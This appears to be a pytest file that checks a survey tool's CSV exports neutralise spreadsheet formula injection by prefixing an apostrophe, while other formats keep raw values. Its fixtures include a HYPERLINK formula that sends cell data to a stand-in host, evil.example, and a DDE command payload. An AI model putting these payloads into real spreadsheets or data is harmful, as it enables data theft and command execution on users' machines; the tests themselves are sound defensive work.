"""CSV follows OWASP's rule for spreadsheet formulas (issue 20): a cell starting with =, +,
-, @, a tab or a carriage return gets a leading apostrophe, in `survey export` and `survey
query` as in the site's /data/works.csv. JSON, BibTeX and Parquet keep values as they are.
The cases are tests/csv_vectors.json, which the table page's CSV exporter is tested with too
(under node: tests/js/table.test.js)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

from kb_helpers import REPO
from survey.query.formats import spreadsheet_cell

VECTORS = json.loads((REPO / "tests" / "csv_vectors.json").read_text(encoding="utf-8"))["cases"]
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_AUTHORS = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("case", VECTORS, ids=[repr(c["cell"])[:30] for c in VECTORS])
def test_the_shared_vectors(case):
    assert spreadsheet_cell(case["cell"]) == case["written"]


def hostile_project(root: Path) -> Path:
    """A one-work survey whose title and authors are formulas."""
    from test_projects import make_project

    make_project(root, 1)
    record = root / "works" / "work0.yaml"
    data = yaml.safe_load(record.read_text(encoding="utf-8"))
    data.update(title=HOSTILE_TITLE, authors=HOSTILE_AUTHORS, author_list=["@Ada Lovelace"])
    record.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return root


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["query", "--format", "csv"]])
def test_the_cli_writes_formulas_as_text(tmp_path, survey_cli, command):
    root = hostile_project(tmp_path / "s")
    status, out, err = survey_cli("--project", str(root), *command)
    assert status == 0, err
    [row] = [r for r in csv_rows(out) if r["id"] == "work0"]
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["authors"] == "'" + HOSTILE_AUTHORS
    assert row["url"] == "https://example.org/0"  # other cells as they are


def test_json_and_bibtex_keep_the_values(tmp_path, survey_cli):
    root = hostile_project(tmp_path / "s")
    status, out, _ = survey_cli("--project", str(root), "export", "--format", "json")
    [work] = [w for w in json.loads(out)["works"] if w["id"] == "work0"]
    assert (work["title"], work["authors"]) == (HOSTILE_TITLE, HOSTILE_AUTHORS)
    status, out, _ = survey_cli("--project", str(root), "export", "--format", "bibtex")
    assert "'=HYPERLINK" not in out and "HYPERLINK" in out


def test_parquet_keeps_the_values(tmp_path, survey_cli):
    pandas = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    root = hostile_project(tmp_path / "s")
    target = tmp_path / "works.parquet"
    status, _, err = survey_cli("--project", str(root), "export", "--format", "parquet", "-o", str(target))
    assert status == 0, err
    frame = pandas.read_parquet(target)
    assert frame.set_index("id").loc["work0", "title"] == HOSTILE_TITLE


def test_the_sites_data_file_writes_formulas_as_text(tmp_path):
    from site_src.pages import data
    from survey.query.collection import load
    from survey.records.project import load_project

    project = load_project(hostile_project(tmp_path / "s"))
    files = data.files(load(project.works_dir, project.taxonomy), title=project.title)
    table = files["data/works.csv"]
    assert isinstance(table, bytes)  # the exported file's bytes
    [row] = [r for r in csv_rows(table.decode("utf-8")) if r["id"] == "work0"]
    assert row["title"] == "'" + HOSTILE_TITLE and row["authors"] == "'" + HOSTILE_AUTHORS
